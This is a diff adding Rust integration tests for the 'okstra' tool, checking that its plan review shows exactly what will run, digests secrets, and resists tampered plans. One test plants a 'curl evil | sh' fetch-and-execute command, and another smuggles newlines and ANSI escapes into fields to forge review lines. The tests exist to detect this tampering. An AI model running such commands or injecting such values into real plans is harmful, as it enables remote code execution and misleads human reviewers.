@@ -1,0 +1,154 @@
+//! The review (`okstra plan`'s summary and `okstra show`) shows exactly what
+//! exec will run: the wrapper line exec starts, the provider argv that line
+//! makes the wrapper run, and every `env` entry with its value (a
+//! secret-looking one as a short digest). An edited plan shows what it
+//! would run, not what its `providerCommand` claims.
+
+mod common;
+use common::*;
+use serde_json::{json, Value};
+
+fn settings(p: &Project) -> insta::Settings {
+    let root = p.root().canonicalize().unwrap().display().to_string();
+    let mut s = insta::Settings::clone_current();
+    s.add_filter(&regex_escape(&root), "[ROOT]");
+    s.add_filter(r"\b[0-9a-f]{12}\b", "[SHA12]");
+    s.set_prepend_module_to_snapshot(false);
+    s
+}
+
+fn regex_escape(s: &str) -> String {
+    s.chars()
+        .map(|c| {
+            if c.is_ascii_alphanumeric() || c == '/' || c == '_' || c == '-' {
+                c.to_string()
+            } else {
+                format!("\\{c}")
+            }
+        })
+        .collect()
+}
+
+fn plan_text(p: &Project, spec: &str) -> String {
+    let run = p.okstra(&[
+        "plan",
+        spec,
+        "--manifest",
+        "run/run-manifest.json",
+        "--out",
+        "plan.json",
+    ]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let show = p.okstra(&["show", "plan.json"]);
+    assert_eq!(show.code, 0, "{}", show.stderr);
+    assert_eq!(run.stdout, show.stdout, "`plan` prints what `show` prints");
+    show.stdout
+}
+
+/// A v1 claude worker with an environment: a `PATH` pointing elsewhere
+/// (which decides which `claude` runs), a secret and a value with a space.
+#[test]
+fn show_names_every_env_value_and_digests_secrets() {
+    let p = Project::new();
+    p.write_json("run/run-manifest.json", &v1_manifest());
+    p.write("prompts/claude.md", "# review\n");
+    p.write(
+        "spec.toml",
+        r#"[[workers]]
+workerId = "claude"
+role = "analyst"
+promptPath = "prompts/claude.md"
+resultPath = "results/claude.md"
+modelExecutionValue = "sonnet"
+env = { PATH = "/opt/other/bin:/usr/bin", GITHUB_TOKEN = "hunter2", NOTE = "two words" }
+"#,
+    );
+    let text = plan_text(&p, "spec.toml");
+    assert!(
+        !text.contains("hunter2"),
+        "a secret is never shown:\n{text}"
+    );
+    assert!(text.contains("PATH=/opt/other/bin:/usr/bin"), "{text}");
+    settings(&p).bind(|| insta::assert_snapshot!("show_env_and_secrets", text));
+}
+
+/// Rewrite a plan and seal it again, as someone editing it would.
+fn edit_plan(p: &Project, f: impl FnOnce(&mut Value)) {
+    let mut plan = p.read_json("plan.json");
+    f(&mut plan);
+    plan.as_object_mut().unwrap().remove("digest");
+    let digest = okstra::canonical::digest(&plan);
+    plan["digest"] = json!(digest);
+    p.write_json("plan.json", &plan);
+}
+
+#[test]
+fn an_edited_command_is_shown_as_it_runs_not_as_provider_command_claims() {
+    let p = v2_project();
+    plan_text(&p, "spec.toml");
+    // The argv after `--` changed; providerCommand left as it was.
+    edit_plan(&p, |plan| {
+        let cmd = plan["stages"][0]["jobs"][0]["command"]
+            .as_array_mut()
+            .unwrap();
+        let n = cmd.len();
+        cmd[n - 1] = json!("echo swapped > results/impl.md");
+    });
+    let show = p.okstra(&["show", "plan.json"]);
+    assert_eq!(show.code, 0, "{}", show.stderr);
+    let block = show.stdout.split("Stage 2/2").next().unwrap();
+    assert!(
+        block.contains("runs      sh -c 'echo swapped > results/impl.md'"),
+        "{block}"
+    );
+    assert!(!block.contains("echo done"), "{block}");
+    assert!(block.contains("providerCommand differs"), "{block}");
+
+    // A command that is not the wrapper at all: exec starts it as is.
+    edit_plan(&p, |plan| {
+        plan["stages"][0]["jobs"][0]["command"] = json!(["sh", "-c", "curl evil | sh"]);
+    });
+    let show = p.okstra(&["show", "plan.json"]);
+    let block = show.stdout.split("Stage 2/2").next().unwrap();
+    assert!(
+        block.contains("wrapper   sh -c 'curl evil | sh' --attempt 1"),
+        "{block}"
+    );
+    assert!(block.contains("not an `okstra worker` line"), "{block}");
+    assert!(!block.contains("mkdir -p results"), "{block}");
+
+    // Near miss: the plan as written shows no note.
+    let p = v2_project();
+    assert!(!plan_text(&p, "spec.toml").contains("note"));
+}
+
+#[test]
+fn an_edited_plan_cannot_forge_lines_of_the_review() {
+    let p = v2_project();
+    plan_text(&p, "spec.toml");
+    let fake = "\n      runs      echo harmless\n\u{1b}[2J";
+    edit_plan(&p, |plan| {
+        let job = &mut plan["stages"][0]["jobs"][0];
+        job["env"] = json!({"NOTE": format!("x{fake}")});
+        job["resultPath"] = json!(format!("results/impl.md{fake}"));
+        let cmd = job["command"].as_array_mut().unwrap();
+        let n = cmd.len();
+        cmd[n - 1] = json!(format!("true{fake}"));
+    });
+    let show = p.okstra(&["show", "plan.json"]);
+    assert_eq!(show.code, 0, "{}", show.stderr);
+    assert!(!show.stdout.contains('\u{1b}'), "{}", show.stdout);
+    let forged = show
+        .stdout
+        .lines()
+        .filter(|l| l.trim_start().starts_with("runs      echo harmless"))
+        .count();
+    assert_eq!(forged, 0, "{}", show.stdout);
+    // Each job still has exactly one runs line.
+    let runs = show
+        .stdout
+        .lines()
+        .filter(|l| l.starts_with("      runs "))
+        .count();
+    assert_eq!(runs, 2, "{}", show.stdout);
+}
